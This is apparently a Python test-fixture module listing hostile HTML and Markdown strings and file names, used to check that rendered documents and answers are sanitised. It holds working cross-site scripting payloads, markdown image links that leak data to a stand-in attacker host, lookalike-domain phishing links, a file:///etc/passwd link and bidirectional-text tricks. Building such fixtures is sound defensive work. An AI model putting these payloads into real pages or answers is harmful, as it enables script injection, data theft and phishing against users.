"""Hostile content for documents and file names, and for answers that repeat it."""

from typing import Final

ATTACKER: Final = "attacker.example"

HOSTILE_HTML: Final = (
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    f"<img src=http://{ATTACKER}/leak.png>",
    "<svg onload=alert('svg')>",
    f"<iframe src=http://{ATTACKER}/frame></iframe>",
    f"<style>@import url(http://{ATTACKER}/style); * {{ display: none }}</style>",
    f"<link rel=stylesheet href=http://{ATTACKER}/link>",
    f"<base href=http://{ATTACKER}/>",
    f"<form action=http://{ATTACKER}/><button>Go</button></form>",
    f"<meta http-equiv=refresh content='0;url=http://{ATTACKER}/refresh'>",
    "<a href=\"javascript:alert('a')\" onclick=\"alert('click')\">click</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
)
HOSTILE_MARKDOWN: Final = (
    f"![leak](http://{ATTACKER}/?leak=secret)",
    f"![leak][image]\n\n[image]: http://{ATTACKER}/reference?leak=secret",
    f'![a "quoted" description](http://{ATTACKER}/"onload="alert(1) "title")',
    "![data](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[javascript](javascript:alert('link'))",
    "[spaced](<java\tscript:alert('tab')>)",
    "[upper](JaVaScRiPt:alert('upper'))",
    "[entity](javascript&#58;alert('entity'))",
    "[data](data:text/html,<script>alert('data')</script>)",
    "[vbscript](vbscript:msgbox(1))",
    "[file](file:///etc/passwd)",
    "<javascript:alert('auto')>",
    f"[bank.example](http://{ATTACKER}/login)",
    f'[titled](http://{ATTACKER}/ "bank.example")',
    f"[b\u0430nk](http://b\u0430nk.{ATTACKER}/)",
    "&#x202e;drowssap&#x202c; &#x200b;&#xE0041; &#27;[2J",
    "`<script>alert('code')</script>`",
    "```<img/src=x/onerror=alert(1)>\n<script>alert('fence')</script>\n```",
    '| a |\n|---|\n| <img src=x onerror=alert("cell")> |',
    "# <img src=x onerror=alert('heading')>",
    "[<img src=x onerror=alert('label')>](http://" + ATTACKER + "/label)",
)
HOSTILE_ANSWER: Final = "\n\n".join((*HOSTILE_HTML, *HOSTILE_MARKDOWN, "The end of the hostile answer [1][99]."))

HOSTILE_DOCUMENTS: Final = {
    "<img src=x onerror=alert(1)>.md": (
        "# <script>alert('title')</script> &lt;b&gt;\n\n<img src=x onerror=alert('content')> is what the pirate says "
        f"with `![x](http://{ATTACKER}/?leak)`, `<img src=x onerror=alert(2)>` and [x](javascript:alert(1)).\n"
    ),
    "pirate\u202egnp.md": "# The pirate's picture\n\nA pirate's name may be written backwards.\n",
}
